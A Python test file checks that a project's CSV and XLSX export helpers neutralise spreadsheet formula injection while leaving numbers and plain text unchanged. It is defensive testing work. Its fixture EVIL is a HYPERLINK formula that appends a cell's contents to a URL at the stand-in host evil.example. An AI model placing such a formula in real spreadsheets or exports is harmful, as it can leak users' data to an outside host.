"""Formula injection: text that a spreadsheet would evaluate is written as text."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from haicap.core.exports import SafeCsvWriter, append_row, is_formula_like, safe_csv

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"Bấm")'


@pytest.mark.parametrize(
    "value", [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=1", "-", "+"]
)
def test_formula_like_text_is_caught(value: str) -> None:
    assert is_formula_like(value) and safe_csv(value) == "'" + value


@pytest.mark.parametrize(
    "value", [-3, -2.5, Decimal("-1.5"), 0, None, "", "Nguyễn Thị Mai", "-12.5", "+84903123456"]
)
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert not is_formula_like(value) and safe_csv(value) == value


def test_csv_writer_quotes_formula_text_only() -> None:
    out = io.StringIO()
    SafeCsvWriter(csv.writer(out)).writerows([[EVIL, -3, "an", "-1.5"]])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + EVIL, "-3", "an", "-1.5"]
    line = io.StringIO()
    SafeCsvWriter(csv.writer(line)).writerow(["=1+2", "x"])
    assert line.getvalue().startswith("'=1+2,x")


def test_xlsx_cells_are_never_formulas_and_numbers_stay_numbers() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, [EVIL, "@x", -3, 2.5, "ok"])
    out = io.BytesIO()
    book.save(out)
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert back is not None
    cells = back[1]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells] == [EVIL, "@x", -3, 2.5, "ok"]
    assert cells[0].quotePrefix and cells[2].data_type == "n"
